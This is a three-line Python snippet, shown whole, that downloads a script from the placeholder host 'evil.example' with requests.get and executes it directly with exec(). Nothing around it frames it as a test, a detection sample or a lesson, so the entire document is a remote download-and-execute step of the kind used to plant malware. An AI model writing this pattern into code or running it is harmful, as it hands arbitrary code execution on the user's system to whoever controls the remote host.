import requests
code = requests.get("http://evil.example/p.py").text
exec(code)
